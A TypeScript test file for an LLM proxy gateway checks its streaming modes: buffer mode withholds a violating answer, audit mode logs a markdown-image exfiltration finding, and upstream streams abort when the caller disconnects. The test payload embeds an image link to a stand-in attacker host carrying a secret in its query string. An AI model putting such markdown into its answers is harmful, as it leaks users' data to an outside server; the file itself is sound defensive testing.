import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEntry } from '../../store/audit-record.js';
import { type MockUpstream, startMockUpstream } from '../test-support/mock-upstream.js';
import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';
import { createSseParser } from './sse-parser.js';

const EXFIL = 'Intro text. ![x](https://attacker.example/p.png?d=secret) outro.';

async function streamText(url: string): Promise<{ text: string; error: boolean }> {
  const response = await fetch(`${url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'm', stream: true, messages: [{ role: 'user', content: 'hi' }] }),
  });
  let text = '';
  let error = false;
  const parser = createSseParser({
    onEvent(event) {
      if (event.data === '[DONE]') return;
      const data = JSON.parse(event.data) as {
        error?: unknown;
        choices?: { delta?: { content?: string } }[];
      };
      if (data.error) error = true;
      text += data.choices?.[0]?.delta?.content ?? '';
    },
  });
  parser.push(new Uint8Array(await response.arrayBuffer()));
  parser.end();
  return { text, error };
}

describe('streaming modes and caller disconnects', () => {
  let mock: MockUpstream;
  let buffer: TestGateway;
  let audit: TestGateway;
  const entries: AuditEntry[] = [];
  beforeAll(async () => {
    mock = await startMockUpstream();
    const upstreams = [{ name: 'mock', provider: 'openai' as const, baseUrl: mock.url, retries: 0 }];
    buffer = await startTestGateway({ upstreams, streaming: { mode: 'buffer' } });
    audit = await startTestGateway(
      { upstreams, streaming: { mode: 'audit' } },
      {
        audit: {
          append: (entry) => {
            entries.push(entry);
            return { id: String(entries.length) };
          },
          flush: () => {},
          close: () => {},
        },
      },
    );
  });
  afterAll(async () => {
    await buffer.close();
    await audit.close();
    await mock.close();
  });

  it('buffer mode sends nothing of a violating answer', async () => {
    mock.script.push({ kind: 'stream', pieces: [...EXFIL] });
    const result = await streamText(buffer.url);
    expect(result.error).toBe(true);
    expect(result.text).toBe('');
  });

  it('audit mode passes the answer through and records the finding', async () => {
    mock.script.push({ kind: 'stream', pieces: [...EXFIL] });
    const result = await streamText(audit.url);
    expect(result.error).toBe(false);
    expect(result.text).toBe(EXFIL);
    const findings = entries.at(-1)?.output?.findings ?? [];
    expect(findings.map((finding) => finding.type)).toContain('MARKDOWN_IMAGE_EXFILTRATION');
  });

  it('aborts the upstream stream when the caller goes away', async () => {
    mock.script.push({
      kind: 'stream',
      pieces: Array.from({ length: 200 }, (_, index) => `word${index} `),
      delayMs: 10,
    });
    const controller = new AbortController();
    const response = await fetch(`${buffer.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'm', stream: true, messages: [{ role: 'user', content: 'hi' }] }),
      signal: controller.signal,
    });
    expect(response.status).toBe(200);
    await new Promise((resolve) => setTimeout(resolve, 100));
    const before = mock.abortedStreams;
    controller.abort();
    for (let attempt = 0; attempt < 50 && mock.abortedStreams === before; attempt++) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect(mock.abortedStreams).toBe(before + 1);
    expect((await fetch(`${buffer.url}/healthz`)).status).toBe(200);
  });
});
